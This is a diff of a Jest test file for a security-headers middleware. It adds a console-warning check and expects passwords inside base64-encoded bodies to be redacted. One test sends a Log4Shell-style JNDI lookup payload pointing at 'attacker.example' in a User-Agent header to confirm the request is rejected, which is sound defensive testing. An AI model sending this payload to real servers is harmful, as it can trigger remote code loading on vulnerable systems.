@@ -85,11 +85,14 @@ describe('withSecurityHeaders', () => {
   });
 
   test('validate answers a suspicious request with 400 before the handler runs', async () => {
+    const warned = jest.spyOn(console, 'warn').mockImplementation(() => undefined);
     const inner = jest.fn(async () => ({ statusCode: 200 }));
     const handler = withSecurityHeaders(inner, { validate: true });
     const attack = { ...v1, headers: { 'User-Agent': '${jndi:ldap://attacker.example/a}' } };
     expect(await handler(attack as never, context as never)).toMatchObject({ statusCode: 400, headers: { 'X-Frame-Options': 'DENY' } });
     expect(inner).not.toHaveBeenCalled();
+    expect(warned).toHaveBeenCalledTimes(1);
+    warned.mockRestore();
     expect(await handler({ ...v1, headers: { 'User-Agent': 'curl/8.5.0' } } as never, context as never)).toMatchObject({ statusCode: 200 });
   });
 
@@ -97,7 +100,7 @@ describe('withSecurityHeaders', () => {
     const answer = async (response: HttpResponse) => (await withSecurityHeaders(async () => response, { sanitize: true })({}, context)).body;
     expect(await answer({ statusCode: 200, body: '{"user":"a","password":"b"}' })).toBe('{"user":"a","password":"[REDACTED]"}');
     expect(await answer({ statusCode: 200, body: 'password=b' })).toBe('password=b');
-    expect(await answer({ statusCode: 200, body: 'eyJwYXNzd29yZCI6ImIifQ==', isBase64Encoded: true })).toBe('eyJwYXNzd29yZCI6ImIifQ==');
+    expect(await answer({ statusCode: 200, body: 'eyJwYXNzd29yZCI6ImIifQ==', isBase64Encoded: true })).toBe('eyJwYXNzd29yZCI6IltSRURBQ1RFRF0ifQ==');
     expect(await answer({ statusCode: 200, body: '{"id": 12345678901234567890}' })).toBe('{"id": 12345678901234567890}');
   });
 });
